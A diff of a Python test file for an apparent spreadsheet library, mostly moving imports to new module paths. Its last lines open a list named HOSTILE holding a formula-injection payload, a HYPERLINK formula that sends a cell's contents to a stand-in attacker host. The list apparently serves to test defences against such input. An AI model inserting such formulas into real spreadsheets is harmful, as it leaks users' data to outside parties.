@@ -10,11 +10,11 @@ from pathlib import Path
 import openpyxl
 
 from tests.helpers import import_paths, orgs, write_filled
-from xlsxkit.consolidate import consolidate
-from xlsxkit.data import write_data
-from xlsxkit.model import Framework
-from xlsxkit.summary import write_summary
-from xlsxkit.workbook import CellValue
+from xlsxkit.framework.model import Framework
+from xlsxkit.render.data_csv import write_data
+from xlsxkit.render.summary_xlsx import write_summary
+from xlsxkit.results.consolidate import consolidate
+from xlsxkit.workbook.write import CellValue
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
